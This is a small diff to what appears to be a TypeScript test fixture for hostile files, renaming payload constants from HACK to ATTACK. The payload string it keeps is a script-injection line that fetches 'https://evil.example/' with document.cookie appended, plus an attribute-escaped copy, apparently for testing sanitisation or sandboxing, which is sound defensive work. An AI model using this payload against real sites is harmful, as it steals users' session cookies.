@@ -18,8 +18,8 @@ export interface HostileFile {
 export const EVIL = 'https://evil.example';
 
 /** What a script does that gets to run. */
-export const HACK =
+export const ATTACK =
   "top.hacked=1;parent.hacked=1;window.hacked=1;alert(1);fetch('https://evil.example/'+document.cookie)";
 
 /** The same inside an attribute's double quotes. */
-export const HACK_IN_ATTRIBUTE = HACK.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
+export const ATTACK_IN_ATTRIBUTE = ATTACK.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
